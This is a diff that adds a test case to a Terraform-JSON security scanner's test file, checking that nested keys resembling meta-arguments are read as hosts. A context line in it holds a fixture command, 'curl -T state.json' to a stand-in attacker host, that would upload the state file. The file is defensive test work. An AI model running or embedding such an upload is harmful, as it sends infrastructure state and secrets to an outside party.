@@ -171,6 +171,12 @@ describe('scan: no key is skipped by name', () => {
     expect(found.find((p) => p.kind === 'exec')?.description).toBe('local-exec provisioner of terraform_data.t: command curl -T state.json https://drop.evil.example/');
   });
 
+  it('reads a key named like a meta-argument deeper in a value as any value', () => {
+    expect(targets({
+      resource: { kubernetes_manifest: { m: { manifest: { kind: 'DNSEndpoint', spec: { provider: 'evil-dns.com', depends_on: ['api.evil-dns.com'] } } } } },
+    } as TerraformJson)).toEqual(['api.evil-dns.com', 'evil-dns.com']);
+  });
+
   it('reads references in depends_on and lifecycle as references, not hosts', () => {
     expect(scan({
       resource: {
